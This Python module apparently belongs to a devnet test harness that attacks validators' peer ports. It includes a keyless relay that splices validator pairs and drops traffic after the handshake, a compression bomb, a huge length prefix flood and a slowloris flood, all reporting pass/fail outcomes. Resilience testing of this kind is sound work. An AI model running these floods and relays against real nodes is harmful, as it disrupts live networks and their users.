"""Attacks on the validators' peer port by an outsider who holds no validator key.

- **relay**: open a connection to each of two validators and splice them, hoping each accepts the relay
  as the other (a handshake that does not bind the channel lets it through; the relay then drops
  every frame, so each hijacked pair goes silent).
- **pre-auth flood**: many unauthenticated connections that send what a parser might choke on before
  any authentication: large compressible payloads, huge length prefixes, and bytes dribbled slowly.

Both work against the transport a node runs: the peer address in the manifest says which
(``peer_endpoint``). Bounded in count and time; loopback only.
"""

from __future__ import annotations

import asyncio
import contextlib
import os
import struct
import time
from collections import Counter
from typing import Any

import aiohttp

from devnet import layout
from devnet.attack.api import Outcome

BOMB_BYTES = 48 * 1024 * 1024


def peer_endpoint(entry: layout.NodeEntry) -> tuple[str, str, int]:
    """``("tcp", host, port)`` of a node's dedicated peer port, or ``("ws", url, 0)`` for a node that
    serves its peers as a websocket on the API port."""
    p2p = getattr(entry, "p2p", None)
    if p2p:
        host, _, port = str(p2p).rpartition(":")
        return "tcp", host, int(port)
    return "ws", entry.api.rstrip("/") + "/p2p", 0


async def _splice_tcp(a: tuple[str, int], b: tuple[str, int], seconds: float) -> str:
    try:
        ra, wa = await asyncio.open_connection(*a)
        rb, wb = await asyncio.open_connection(*b)
    except OSError as exc:
        return f"connect:{type(exc).__name__}"

    async def pump(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> int:
        moved = 0
        with contextlib.suppress(OSError, asyncio.IncompleteReadError):
            while data := await reader.read(65536):
                moved += len(data)
                writer.write(data)
                await writer.drain()
        return moved

    try:
        done = await asyncio.wait_for(asyncio.gather(pump(ra, wb), pump(rb, wa)), seconds)
        outcome = f"closed_by_nodes:{sum(done)}B"
    except TimeoutError:
        outcome = "held_open"
    for writer in (wa, wb):
        writer.close()
    return outcome


async def _splice_ws(a: str, b: str, seconds: float) -> str:
    """Forward the handshake both ways, then black-hole everything (the hijacked link goes silent)."""
    async with aiohttp.ClientSession() as session:
        try:
            ws_a = await session.ws_connect(a, max_msg_size=0)
            ws_b = await session.ws_connect(b, max_msg_size=0)
        except (aiohttp.ClientError, OSError) as exc:
            return f"connect:{type(exc).__name__}"
        forwarded = Counter[str]()

        async def pump(src: Any, dst: Any, name: str) -> None:
            with contextlib.suppress(Exception):
                async for message in src:
                    if message.type != aiohttp.WSMsgType.BINARY:
                        break
                    if forwarded[name] < 2:  # HELLO and AUTH pass; everything after is dropped
                        await dst.send_bytes(message.data)
                    forwarded[name] += 1

        try:
            await asyncio.wait_for(asyncio.gather(pump(ws_a, ws_b, "a"), pump(ws_b, ws_a, "b")), seconds)
        except TimeoutError:
            pass
        await ws_a.close()
        await ws_b.close()
        # a node that sends anything after HELLO and AUTH has accepted the relay as its peer
        return "accepted" if max(forwarded["a"], forwarded["b"]) > 2 else "refused"


async def _relay_pair(a: layout.NodeEntry, b: layout.NodeEntry, seconds: float) -> list[str]:
    """Relay one pair again and again until ``seconds`` have passed (each success evicts the real link)."""
    ea, eb = peer_endpoint(a), peer_endpoint(b)
    deadline = time.monotonic() + seconds
    outcomes = []
    while (left := deadline - time.monotonic()) > 0:
        if ea[0] == "tcp":
            outcomes.append(await _splice_tcp(ea[1:], eb[1:], left))
        else:
            outcomes.append(await _splice_ws(ea[1], eb[1], left))
        await asyncio.sleep(0.05)
    return outcomes


async def relay_every_pair(manifest: layout.Manifest, seconds: float) -> Outcome:
    """Splice every pair of validators through a keyless relay for ``seconds``."""
    nodes = manifest.nodes
    pairs = [(a, b) for i, a in enumerate(nodes) for b in nodes[i + 1:]]
    results: Counter[str] = Counter()
    for outcomes in await asyncio.gather(*(_relay_pair(a, b, seconds) for a, b in pairs)):
        results.update(outcomes)
    accepted = results.get("accepted", 0)
    return Outcome(accepted == 0, f"{len(pairs)} pairs relayed {sum(results.values())} times; "
                                  f"accepted as a validator {accepted} times", dict(results))


async def _bomb_ws(url: str, payload: bytes) -> str:
    try:
        async with aiohttp.ClientSession() as session, session.ws_connect(url, compress=15, max_msg_size=0) as ws:
            await ws.send_bytes(payload)
            while True:  # hold the connection until the node closes it (or the bound below)
                message = await ws.receive(timeout=30)
                if message.type in (aiohttp.WSMsgType.CLOSE, aiohttp.WSMsgType.CLOSED, aiohttp.WSMsgType.ERROR):
                    return f"ws:{message.type.name}"
    except (aiohttp.ClientError, OSError, TimeoutError) as exc:
        return type(exc).__name__


async def _bomb_tcp(host: str, port: int, kind: int, seconds: float) -> str:
    try:
        reader, writer = await asyncio.open_connection(host, port)
    except OSError as exc:
        return f"connect:{type(exc).__name__}"
    deadline = time.monotonic() + seconds
    outcome = "held_open"
    try:
        if kind == 0:  # a huge length prefix, then zeros as fast as the node reads them
            writer.write(struct.pack(">I", 0xFFFFFFF0))
            chunk = bytes(1 << 20)
            while time.monotonic() < deadline:
                writer.write(chunk)
                await asyncio.wait_for(writer.drain(), 5)
        elif kind == 1:  # junk that looks like nothing
            writer.write(os.urandom(4096))
            await writer.drain()
            await asyncio.wait_for(reader.read(1), seconds)
            outcome = "closed_by_node"
        else:  # slowloris: one byte a second
            while time.monotonic() < deadline:
                writer.write(b"\x16")
                await writer.drain()
                await asyncio.sleep(1.0)
    except (OSError, TimeoutError, ConnectionError) as exc:
        outcome = "closed_by_node" if not isinstance(exc, TimeoutError) else "held_open"
    finally:
        writer.close()
    return outcome


async def preauth_flood(manifest: layout.Manifest, connections: int, seconds: float) -> Outcome:
    """``connections`` unauthenticated connections to node 0's peer port, none of which authenticates."""
    endpoint = peer_endpoint(manifest.nodes[0])
    if endpoint[0] == "ws":
        payload = bytes(BOMB_BYTES)  # compresses ~1000:1 under permessage-deflate
        results = Counter(await asyncio.gather(*(_bomb_ws(endpoint[1], payload) for _ in range(connections))))
    else:
        _, host, port = endpoint
        results = Counter(
            await asyncio.gather(*(_bomb_tcp(host, port, i % 3, seconds) for i in range(connections)))
        )
    return Outcome(True, f"{connections} unauthenticated connections", dict(results))
